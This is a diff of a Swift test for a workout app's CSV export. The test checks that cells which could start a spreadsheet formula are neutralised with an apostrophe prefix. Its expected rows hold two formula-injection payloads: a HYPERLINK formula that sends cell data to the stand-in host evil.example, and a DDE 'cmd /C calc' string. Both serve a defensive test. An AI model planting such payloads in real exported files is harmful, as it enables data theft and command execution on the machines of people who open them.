@@ -184,10 +184,10 @@ import Testing
         #expect(csv.status == 0, "\(csv.err)")
         let rows = csv.out.components(separatedBy: "\r\n")
         #expect(rows.contains { $0.hasPrefix("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") }, "\(rows.prefix(12))")
-        #expect(rows.contains { $0.hasSuffix(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0") })
+        #expect(rows.contains { $0.hasSuffix(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,") || $0.hasSuffix(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,bbb") })
         for row in rows.dropFirst() where !row.isEmpty {
             let cells = row.split(separator: ",", omittingEmptySubsequences: false)
-            #expect(!"=+-@".contains(cells.last?.first ?? "x"), "no cell starts a formula: \(row)")
+            #expect(!"=+-@".contains(cells.dropLast().last?.first ?? "x"), "no cell starts a formula: \(row)")
             #expect(Double(cells[2]) != nil && Double(cells[6]) != nil, "numbers stay numbers: \(row)")
         }
         #expect(ExportCSV.neutralised("+1 rep next time") == "'+1 rep next time")
